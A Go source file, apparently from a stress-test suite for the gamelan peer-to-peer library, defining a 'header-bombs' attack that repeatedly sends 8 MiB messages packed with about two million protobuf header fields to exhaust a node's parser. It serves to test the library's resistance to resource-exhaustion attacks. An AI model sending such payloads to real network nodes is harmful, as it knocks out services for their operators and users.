package product

import (
	"bytes"
	"context"
	"sync/atomic"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/gamelan-p2p/gamelan"
	"github.com/gamelan-p2p/gamelan/dht/wire"
	"github.com/gamelan-p2p/gamelan/internal/protocol/messaging"
)

// maxBody is the longest message that a node reads.
const maxBody = 8 << 20

// headerBombs sends messages of 8 MiB that are two million header fields, each of
// which a reader of the format adds to the ones before. A stroke is a message.
func headerBombs() attack {
	return attack{
		name: "header-bombs", config: gamelan.Config{DHT: &gamelan.DHTConfig{}},
		prepare: func(_ context.Context, seed string) (func(context.Context, *atomic.Uint64) error, error) {
			piece := protowire.AppendBytes(protowire.AppendTag(nil, 1, protowire.BytesType), wire.DomainHeader{Type: 2}.Append(nil))
			bomb := []messaging.Entry[struct{}]{{Body: bytes.Repeat(piece, maxBody/len(piece))}}
			return func(ctx context.Context, count *atomic.Uint64) error {
				return again(ctx, seed, func(w *writer) error {
					_, err := messaging.WriteFrames(w.stream, bomb)
					if err == nil {
						count.Add(1)
					}
					return err
				})
			}, nil
		},
	}
}
